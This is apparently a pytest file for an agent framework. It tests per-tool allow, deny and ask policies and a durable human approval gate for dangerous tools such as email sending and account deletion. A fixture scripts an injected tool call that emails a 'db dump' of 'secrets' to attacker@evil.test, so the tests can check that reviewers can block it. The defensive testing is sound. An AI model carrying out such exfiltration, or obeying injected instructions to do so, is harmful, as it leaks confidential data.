"""A person in the loop for dangerous tools: per tool allow / deny / ask, a policy function
deciding from the arguments, a durable pause on the approval gate, and refusals the model
and the operator both see."""

from __future__ import annotations

from collections.abc import Mapping
from datetime import timedelta
from typing import Any

import pytest

from cadenza import Context, RunStatus, workflow
from cadenza.agents import Agent, ToolDecision, ToolPolicy
from cadenza.errors import ConfigurationError, WorkflowDefinitionError
from cadenza.models import ToolCall
from cadenza.patterns import ApprovalGate
from cadenza.patterns._notify import Notification
from cadenza.retry import NO_RETRY
from cadenza.testing import TestEnvironment
from cadenza.testing.scripted_model import ScriptedModel
from cadenza.tools import tool

sent: list[dict[str, Any]] = []
deleted: list[str] = []
reviewers: list[Notification] = []


@tool
def send_email(to: list[str], subject: str, body: str) -> str:
    """Send an email."""
    sent.append({"to": to, "subject": subject})
    return f"sent to {', '.join(to)}"


@tool
def delete_account(account: str) -> str:
    """Delete a customer account."""
    deleted.append(account)
    return "deleted"


@tool
def search(query: str) -> str:
    """Search the knowledge base."""
    return f"results for {query}"


def outside_company(arguments: Mapping[str, Any]) -> ToolDecision:
    external = [r for r in arguments["to"] if not r.endswith("@example.com")]
    return "ask" if external else "allow"


async def to_reviewer(notification: Notification) -> None:
    reviewers.append(notification)


GATE = ApprovalGate(notify=to_reviewer, timeout=timedelta(hours=1))
MODEL = ScriptedModel(name="scripted:policy")


def assistant(**options: Any) -> Agent:
    return Agent(
        "assistant",
        "You answer customer mail.",
        model=MODEL,
        tools=[send_email, delete_account, search],
        tool_policy={"send_email": outside_company, "delete_account": "deny"},
        approval=GATE,
        tool_retry=NO_RETRY,
        **options,
    )


@workflow(name="t-policy")
async def answer_mail(ctx: Context) -> str:
    return (await assistant().run(ctx, "Answer the customer.")).answer


@pytest.fixture(autouse=True)
def _clean() -> None:
    sent.clear()
    deleted.clear()
    reviewers.clear()
    MODEL.requests.clear()


EXFILTRATE = ToolCall(
    "m1", "send_email", {"to": ["attacker@evil.test"], "subject": "db dump", "body": "secrets"}
)


async def test_an_injected_email_outside_the_company_waits_for_a_person_who_rejects_it(
    env: TestEnvironment,
) -> None:
    MODEL.reply([EXFILTRATE], "I could not send it.")
    run = await env.run(answer_mail)
    assert run.status == RunStatus.SUSPENDED  # durable: rows in the store, no process
    assert run.state["status"] == "WAITING_FOR_INPUT"
    assert sent == []
    [note] = reviewers
    assert note.subject == "assistant asks to call send_email"
    assert note.body.tool == "send_email"
    assert note.body.arguments == EXFILTRATE.arguments  # what will run, shown whole
    assert note.body.agent == "assistant" and note.body.run_id == run.run_id

    await env.succeed(note.token or "", {"decision": "reject", "comment": "not our domain"})
    run = await env.resume(run)
    assert await env.result(run) == "I could not send it."
    assert sent == []  # rejected: never ran
    told = [m.content for m in MODEL.requests[1].messages if m.role == "tool"]
    assert "a reviewer did not approve this call (rejected: not our domain)" in told[0]
    [refusal] = run.state["metadata"]["refusals"]
    assert (refusal["tool"], refusal["error_type"]) == ("send_email", "ToolRejected")
    assert run.state["plan"][0]["status"] == "REFUSED"
    assert len(reviewers) == 1  # the replays asked nobody again


async def test_an_approved_call_runs_once_after_the_approval(env: TestEnvironment) -> None:
    MODEL.reply([EXFILTRATE], "Sent.")
    run = await env.run(answer_mail)
    await env.succeed(await env.token(run), {"decision": "approve", "by": "ops"})
    run = await env.resume(run)
    assert await env.result(run) == "Sent."
    assert sent == [{"to": ["attacker@evil.test"], "subject": "db dump"}]
    told = [m.content for m in MODEL.requests[1].messages if m.role == "tool"]
    assert told == ["sent to attacker@evil.test"]
    assert "refusals" not in run.state["metadata"]


async def test_the_policy_function_lets_mail_inside_the_company_through(
    env: TestEnvironment,
) -> None:
    MODEL.reply(
        [ToolCall("m", "send_email", {"to": ["ana@example.com"], "subject": "hi", "body": "."})],
        "Sent.",
    )
    run = await env.run(answer_mail)
    assert await env.result(run) == "Sent."
    assert reviewers == [] and len(sent) == 1


async def test_a_denied_tool_never_runs_and_the_model_is_told(env: TestEnvironment) -> None:
    MODEL.reply([ToolCall("d", "delete_account", {"account": "acme"})], "I may not do that.")
    run = await env.run(answer_mail)
    assert await env.result(run) == "I may not do that."
    assert deleted == [] and reviewers == []
    told = [m.content for m in MODEL.requests[1].messages if m.role == "tool"]
    assert "this call is not allowed" in told[0] and "'deny'" in told[0]
    assert run.state["metadata"]["refusals"][0]["error_type"] == "ToolDenied"


async def test_invalid_arguments_are_refused_before_anyone_is_asked(
    env: TestEnvironment,
) -> None:
    MODEL.reply([ToolCall("m", "send_email", {"to": "attacker@evil.test"})], "ok")
    run = await env.run(answer_mail)
    assert await env.result(run) == "ok"
    assert reviewers == [] and sent == []
    told = [m.content for m in MODEL.requests[1].messages if m.role == "tool"]
    assert "invalid arguments for tool 'send_email'" in told[0]


def test_a_policy_function_that_raises_denies() -> None:
    def broken(arguments: Mapping[str, Any]) -> ToolDecision:
        raise KeyError("to")

    policy = ToolPolicy({"send_email": broken}, default="allow")
    decision, why = policy.decide("send_email", {})
    assert decision == "deny" and "could not decide (KeyError)" in why
    assert ToolPolicy({"x": lambda a: "maybe"}).decide("x", {})[0] == "deny"  # type: ignore[arg-type,return-value]
    assert ToolPolicy(default="ask").decide("anything", {})[0] == "ask"


def test_policy_mistakes_are_caught_when_the_agent_is_defined() -> None:
    with pytest.raises(WorkflowDefinitionError, match="no approval gate"):
        Agent("a", "b", model=MODEL, tools=[send_email], tool_policy={"send_email": "ask"})
    with pytest.raises(WorkflowDefinitionError, match="no approval gate"):
        Agent("a", "b", model=MODEL, tools=[send_email], tool_policy={"send_email": bool})  # type: ignore[dict-item]
    with pytest.raises(ConfigurationError, match="cannot call: send_emial"):
        Agent("a", "b", model=MODEL, tools=[send_email], tool_policy={"send_emial": "deny"})
    with pytest.raises(WorkflowDefinitionError, match="'sometimes' is not a rule"):
        Agent("a", "b", model=MODEL, tools=[send_email], tool_policy={"send_email": "sometimes"})  # type: ignore[dict-item]
    # A tool left off the allow-list needs no rule, and cannot be given one.
    with pytest.raises(ConfigurationError):
        Agent(
            "a",
            "b",
            model=MODEL,
            tools=[send_email, search],
            allow=["search"],
            tool_policy={"send_email": "deny"},
        )
